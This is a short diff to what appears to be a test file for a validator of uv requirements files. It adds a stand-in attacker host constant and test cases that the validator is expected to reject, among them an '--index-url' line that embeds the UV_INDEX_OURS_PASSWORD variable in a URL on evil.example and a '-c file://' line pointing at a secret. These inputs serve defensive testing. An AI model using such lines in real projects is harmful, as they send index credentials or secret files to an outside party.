@@ -94,6 +94,7 @@ dependencies = ["{NAME}"]
 [tool.uv.sources]
 {NAME} = {{ path = "source", editable = true }}
 """
+EVIL = "https://evil.example"
 INDEX = "--no-index\n--find-links ./vendor\n"
 SETTINGS = f"""
 [tool.uv]
@@ -211,7 +212,7 @@ async def test_it_is_built_where_the_operator_allows_it(
         ({"requirements.txt": "-c file://{secret}"}, "is not a file of the project"),
         ({"requirements.txt": "-r nowhere"}, "names 'nowhere', which is not there"),
         (
-            {"requirements.txt": "--index-url https://evil.example/${UV_INDEX_OURS_PASSWORD}"},
+            {"requirements.txt": f"--index-url {EVIL}/${{UV_INDEX_OURS_PASSWORD}}"},
             "there are no variables to be used",
         ),
         (
